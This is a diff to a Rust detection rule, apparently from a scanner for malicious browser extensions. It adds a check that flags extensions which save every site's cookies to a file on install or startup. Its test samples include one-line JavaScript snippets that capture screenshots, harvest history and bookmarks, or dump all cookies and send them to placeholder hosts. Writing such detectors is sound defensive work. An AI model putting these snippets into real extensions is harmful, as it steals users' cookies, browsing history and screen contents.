@@ -20,8 +20,10 @@ pub(super) const SIGNAL: Signal = Signal {
             "setInterval(()=>{chrome.tabs.captureVisibleTab(null,{format:'jpeg'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})},3000)",
             "chrome.history.search({text:'',maxResults:100000},h=>chrome.bookmarks.getTree(b=>fetch('https://up.example/p',{method:'POST',body:JSON.stringify([h,b])})))",
             "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'',startTime:0,maxResults:100000},h=>{navigator.sendBeacon('https://log.example/h',JSON.stringify(h.map(x=>x.url)))})})",
+            "chrome.runtime.onStartup.addListener(async()=>{const c=await chrome.cookies.getAll({});chrome.downloads.download({url:'data:application/json,'+JSON.stringify(c),filename:'c.json',saveAs:false})})",
         ],
         without: &[
+            "chrome.action.onClicked.addListener(async()=>{const c=await chrome.cookies.getAll({});chrome.downloads.download({url:'data:application/json,'+JSON.stringify(c)})})",
             "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'docs',maxResults:10},h=>{fetch('https://log.example/h',{method:'POST',body:h.length})})})",
             "chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
             "chrome.tabs.onUpdated.addListener(f);chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{save(p)})",
@@ -71,10 +73,20 @@ fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
     ];
     let private = kinds[..3].iter().any(|kind| *kind);
     let leaves = [Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon];
+    if kinds[1] && saves_unasked(near) {
+        return true;
+    }
     let many = kinds.iter().filter(|kind| **kind).count() >= 2;
     (private && many || kinds[0] && is_all_history(near))
         && near.has_fact(&leaves)
         && near.has_text(&["https://", "http://"])
+}
+
+/// Whether cookies of all sites are saved when the extension or the browser starts: `cookies.getAll({})`, `downloads.download(…)`.
+fn saves_unasked(near: Near<'_>) -> bool {
+    let all = near.words(&["getAll"]).any(|at| near.is(at + 2, b'{') && near.is(at + 3, b'}'));
+    let saved = near.words(&["download"]).any(|at| near.word(at.wrapping_sub(1)) == "downloads");
+    all && saved && near.has_word(&["onInstalled", "onStartup"])
 }
 
 /// Whether all of the history is asked for, and nobody asks the extension for it: any text, many results, when it is installed or again
